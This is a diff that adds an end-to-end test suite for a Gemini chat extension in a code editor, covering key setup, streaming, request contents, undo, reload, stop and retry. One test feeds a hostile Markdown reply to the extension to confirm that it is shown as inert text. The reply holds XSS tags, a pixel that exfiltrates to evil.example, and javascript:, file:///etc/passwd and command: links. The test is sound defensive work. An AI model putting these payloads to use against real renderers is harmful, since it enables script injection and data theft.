@@ -1,0 +1,162 @@
+import assert from 'node:assert/strict';
+import { readFileSync } from 'node:fs';
+import path from 'node:path';
+import { faultOf } from '../emulator/faults/fault';
+import { notifications, patience } from '../host/workbench';
+import { openWorkbench, type Workbench } from './fixture';
+
+/** The body of the n-th create request, counted from the end. */
+interface SentBody {
+  readonly model?: string;
+  readonly previous_interaction_id?: string;
+  readonly input: readonly { readonly type: string; readonly text?: string }[];
+}
+
+describe('the main job: ask about selected code', function () {
+  this.timeout(6 * patience);
+  let workbench: Workbench;
+  const creates = (): readonly SentBody[] =>
+    workbench.emulator.requests
+      .filter(({ method, path: route }) => method === 'POST' && route.endsWith('/interactions'))
+      .map(({ body }) => body as unknown as SentBody);
+  const composer = () => workbench.panel.getByRole('textbox', { name: 'Message Gemini' });
+  const log = () => workbench.panel.getByRole('log', { name: 'Conversation' });
+  const answer = (at: number) => log().getByRole('article', { name: 'Gemini' }).nth(at);
+
+  before(async () => {
+    workbench = await openWorkbench();
+  });
+  after(() => workbench?.close());
+
+  it('asks for a key first, and takes one through the palette', async () => {
+    await workbench.palette('Gemini: Open Chat');
+    await workbench.panel.getByRole('button', { name: 'Set API key' }).first().waitFor({ timeout: patience });
+    await workbench.screenshot('01-no-key');
+    await workbench.palette('Gemini: Set API Key');
+    const input = workbench.page.locator('.quick-input-widget input');
+    await input.fill('test-key');
+    await workbench.page.keyboard.press('Enter');
+    await workbench.page.getByText(/Connected to http:\/\/127\.0\.0\.1/).first().waitFor({ timeout: patience });
+    assert.ok((await notifications(workbench.page)).some((text) => /models/.test(text)));
+    await workbench.panel.getByRole('button', { name: 'Set API key' }).first().waitFor({ state: 'hidden', timeout: patience });
+    await workbench.palette('Notifications: Clear All Notifications');
+  });
+
+  it('shows text growing before the answer has ended, and says that this is not Google', async () => {
+    workbench.emulator.script({ pieces: ['The discount is ', { gate: 'half' }, 'applied twice.\n\n```ts\nconst price = 1;\n```\n'] });
+    await workbench.openFile('cart.ts');
+    await workbench.selectLines(1, 5);
+    await workbench.palette('Gemini: Ask About Selection');
+    await workbench.panel.getByRole('list', { name: 'Attachments' }).getByText(/cart\.ts:1-5/).waitFor({ timeout: patience });
+    await workbench.page.keyboard.type('What is wrong here?');
+    await workbench.screenshot('02-question');
+    await workbench.page.keyboard.press('Enter');
+    await answer(0).getByText('The discount is').waitFor({ timeout: patience });
+    assert.equal(await answer(0).getByText('applied twice').count(), 0);
+    await workbench.panel.getByRole('button', { name: 'Stop' }).waitFor();
+    await workbench.screenshot('03-streaming');
+    workbench.emulator.release('half');
+    await answer(0).getByText('applied twice').waitFor({ timeout: patience });
+    await answer(0).getByRole('button', { name: 'Copy code' }).waitFor({ timeout: patience });
+    await workbench.panel.getByText(/Answers do not come from Google/).waitFor();
+    await workbench.screenshot('04-answer');
+  });
+
+  it('sent the selected lines exactly, and the key in the header only', () => {
+    const lines = readFileSync(path.join(workbench.workspace, 'src/cart.ts'), 'utf8').split('\n').slice(0, 5).join('\n');
+    const [attached, question] = creates().at(-1)?.input ?? [];
+    assert.equal(attached?.text, `From src/cart.ts, lines 1-5:\n\`\`\`typescript\n${lines}\n\`\`\``);
+    assert.equal(question?.text, 'What is wrong here?');
+    const request = workbench.emulator.requests.findLast(({ method }) => method === 'POST');
+    assert.equal(request?.headers['x-goog-api-key'], 'test-key');
+    assert.equal(JSON.stringify([request?.path, request?.query, request?.body]).includes('test-key'), false);
+  });
+
+  it('inserts a code block at the cursor as one undo step, and copies it', async () => {
+    await answer(0).getByRole('button', { name: 'Copy code' }).click();
+    await workbench.page.waitForFunction(async () => (await navigator.clipboard.readText()) === 'const price = 1;');
+    await workbench.openFile('README.md');
+    await workbench.page.keyboard.press('Control+Home');
+    await answer(0).getByRole('button', { name: 'Insert at cursor' }).click();
+    const editor = workbench.page.locator('.editor-instance .view-lines').first();
+    await editor.getByText('const price = 1;').waitFor({ timeout: patience });
+    await workbench.page.keyboard.press('Control+z');
+    await editor.getByText('const price = 1;').waitFor({ state: 'hidden', timeout: patience });
+  });
+
+  it('asks again in the same conversation', async () => {
+    workbench.emulator.script({ text: 'Once is enough.' });
+    await composer().click();
+    await workbench.page.keyboard.type('How often should it be?');
+    await workbench.page.keyboard.press('Enter');
+    await answer(1).getByText('Once is enough.').waitFor({ timeout: patience });
+    const [first, second] = creates().slice(-2);
+    assert.equal(first?.previous_interaction_id, undefined);
+    assert.match(second?.previous_interaction_id ?? '', /^v1_/);
+    assert.deepEqual(second?.input, [{ type: 'text', text: 'How often should it be?' }]);
+  });
+
+  it('goes on after the window was reloaded', async () => {
+    await workbench.reloadWindow();
+    await workbench.palette('Gemini: Open Chat');
+    await answer(1).getByText('Once is enough.').waitFor({ timeout: patience });
+    workbench.emulator.script({ text: 'Still here.' });
+    await composer().click();
+    await workbench.page.keyboard.type('And now?');
+    await workbench.page.keyboard.press('Enter');
+    await answer(2).getByText('Still here.').waitFor({ timeout: patience });
+    assert.match(creates().at(-1)?.previous_interaction_id ?? '', /^v1_/);
+    assert.equal(workbench.emulator.requests.findLast(({ method }) => method === 'POST')?.headers['x-goog-api-key'], 'test-key');
+    await workbench.screenshot('05-after-reload');
+  });
+
+  it('stops an answer with Escape and keeps what has arrived', async () => {
+    workbench.emulator.script({ pieces: ['A long story. ', { gate: 'never' }, 'The end.'] });
+    await composer().click();
+    await workbench.page.keyboard.type('Tell me');
+    await workbench.page.keyboard.press('Enter');
+    await answer(3).getByText('A long story.').waitFor({ timeout: patience });
+    await workbench.page.keyboard.press('Escape');
+    await answer(3).getByRole('status').getByText(/stopped/i).waitFor({ timeout: patience });
+    assert.equal(await answer(3).getByText('The end.').count(), 0);
+    await workbench.screenshot('06-stopped');
+  });
+
+  it('names a failure, and tries again at a click', async () => {
+    workbench.emulator.faults.add(faultOf('blocked'));
+    await composer().click();
+    await workbench.page.keyboard.type('Once more');
+    await workbench.page.keyboard.press('Enter');
+    const alert = workbench.panel.getByRole('alert');
+    await alert.waitFor({ timeout: patience });
+    await workbench.screenshot('07-failed');
+    workbench.emulator.script({ text: 'Here you are.' });
+    await alert.getByRole('button', { name: 'Retry' }).click();
+    await log().getByText('Here you are.').waitFor({ timeout: patience });
+    assert.equal(await workbench.panel.getByRole('alert').count(), 0);
+  });
+
+  it('shows hostile Markdown as text: nothing runs, nothing is loaded', async () => {
+    const requested: string[] = [];
+    workbench.page.on('request', (request) => requested.push(request.url()));
+    workbench.emulator.script({
+      text: '<img src=x onerror="document.title=1"><script>document.title=2</script>\n\n![pixel](https://evil.example/p.png?d=secret)\n\n[click](javascript:alert(1)) [file](file:///etc/passwd) [cmd](command:workbench.action.quit)\n\n<iframe src="https://evil.example/"></iframe>',
+    });
+    await composer().click();
+    await workbench.page.keyboard.type('Be evil');
+    await workbench.page.keyboard.press('Enter');
+    await log().getByText(/<img src=x/).waitFor({ timeout: patience });
+    await workbench.screenshot('08-hostile');
+    assert.equal(await log().locator('iframe, script, img').count(), 0);
+    const links = await log().getByRole('article').last().getByRole('link').evaluateAll((all) => all.map((each) => each.getAttribute('href')));
+    assert.deepEqual(links.filter((href) => href !== null && !/^https?:/.test(href)), []);
+    assert.deepEqual(requested.filter((url) => url.includes('evil.example')), []);
+  });
+
+  it('opens the same chat in an editor tab', async () => {
+    await workbench.palette('Gemini: Open Chat in Editor');
+    const tab = workbench.page.frameLocator('iframe.webview[src*="purpose=webviewPanel"], iframe.webview:not([src*="purpose"])').frameLocator('iframe#active-frame');
+    await tab.getByRole('log', { name: 'Conversation' }).getByText('Once is enough.').waitFor({ timeout: patience });
+    await workbench.screenshot('09-editor-tab');
+  });
+});
